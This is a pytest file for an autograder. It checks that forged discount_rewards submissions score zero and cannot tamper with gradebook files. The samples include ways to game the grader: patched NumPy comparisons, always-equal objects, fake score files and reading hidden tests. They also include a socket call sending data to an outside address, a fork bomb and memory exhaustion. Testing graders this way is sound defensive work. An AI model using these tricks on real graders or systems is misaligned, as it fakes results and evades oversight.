"""Forgery earns nothing: each hostile discount_rewards cell below gets a clear per-test failure, the
other functions keep their points, grading finishes, and nothing outside the sandbox changes."""

import textwrap

import pytest

from autograder import config
from tests.conftest import ROOT, by_function, grade

A1 = config.assignment("a1_policy_gradients")
HIDDEN_TEST = ROOT / "autograder" / "tests" / A1.id / "test_discount_rewards.py"
CANARIES = [ROOT / "gradebook.db", ROOT / "feedback" / "mallory" / f"{A1.id}.json", ROOT / ".cache" / "verdict.json"]

FORGERIES = {
    "patches NumPy's comparisons, the test helpers and builtins": ('''
        import builtins, numpy
        numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
        numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
        numpy.testing.assert_allclose = lambda *args, **kwargs: None
        builtins.AssertionError = type("Never", (Exception,), {})
        def discount_rewards(rewards, discount_factor):
            return np.zeros(len(rewards))
    ''', "differ from the expected ones"),
    "returns an object equal to everything": ('''
        class Equal:
            def __eq__(self, other):
                return True
            def __array__(self, dtype=None):
                return np.array([-22.0, -40.0, -50.0])
        def discount_rewards(rewards, discount_factor):
            return Equal()
    ''', "returned an object of type Equal"),
    "returns an array subclass equal to everything": ('''
        class Equal(np.ndarray):
            def __eq__(self, other):
                return np.ones(self.shape, dtype=bool)
        def discount_rewards(rewards, discount_factor):
            return np.zeros(len(rewards)).view(Equal)
    ''', "differ from the expected ones"),
    "writes verdicts where the gradebook and results live": (f'''
        import os
        def discount_rewards(rewards, discount_factor):
            for path in {[str(path) for path in CANARIES]!r}:
                try:
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    with open(path, "w") as verdict:
                        verdict.write('{{"score": 20}}')
                except OSError:
                    pass
            raise RuntimeError("no verdict could be written")
    ''', "raised RuntimeError"),
    "reads the hidden tests from disk": (f'''
        def discount_rewards(rewards, discount_factor):
            return open({str(HIDDEN_TEST)!r}).read()
    ''', "raised FileNotFoundError"),
    "opens a socket": ('''
        import socket
        def discount_rewards(rewards, discount_factor):
            socket.create_connection(("192.0.2.1", 443), timeout=1).sendall(repr(rewards).encode())
    ''', "raised OSError"),
    "calls os._exit": ('''
        import os
        def discount_rewards(rewards, discount_factor):
            os._exit(0)
    ''', "exited"),
    "fork-bombs": ('''
        import os
        def discount_rewards(rewards, discount_factor):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    ''', "did not finish within"),
    "allocates until killed": ('''
        def discount_rewards(rewards, discount_factor):
            hoard = []
            while True:
                hoard.append(np.ones(2**24))
    ''', "memory"),
    "loops forever": ('''
        def discount_rewards(rewards, discount_factor):
            while True:
                pass
    ''', "did not finish within"),
    "kills the sandbox while its cell runs": ('''
        import os
        os._exit(3)
        def discount_rewards(rewards, discount_factor):
            return np.zeros(len(rewards))
    ''', "skipped it"),
}


@pytest.fixture(scope="module")
def canaries():
    """What the files a forgery aims at hold before grading (None for absent ones)."""
    return {path: path.read_bytes() if path.exists() else None for path in CANARIES}


@pytest.mark.slow
@pytest.mark.parametrize("name", list(FORGERIES))
def test_forgery_earns_nothing(name, variant, canaries):
    source, message = FORGERIES[name]
    report = grade(A1.id, variant(A1.id, {"discount_rewards": textwrap.dedent(source).strip()}))
    scores = by_function(report)
    assert scores.pop("discount_rewards")[0] == 0
    assert all(got == most for got, most in scores.values()), scores
    feedback = [test["feedback"] for test in report["tests"] if test["function"] == "discount_rewards"]
    assert any(message in text for text in feedback), feedback
    assert not any("def test_" in test["feedback"] or "grader itself" in test["feedback"] for test in report["tests"])
    assert {path: path.read_bytes() if path.exists() else None for path in CANARIES} == canaries
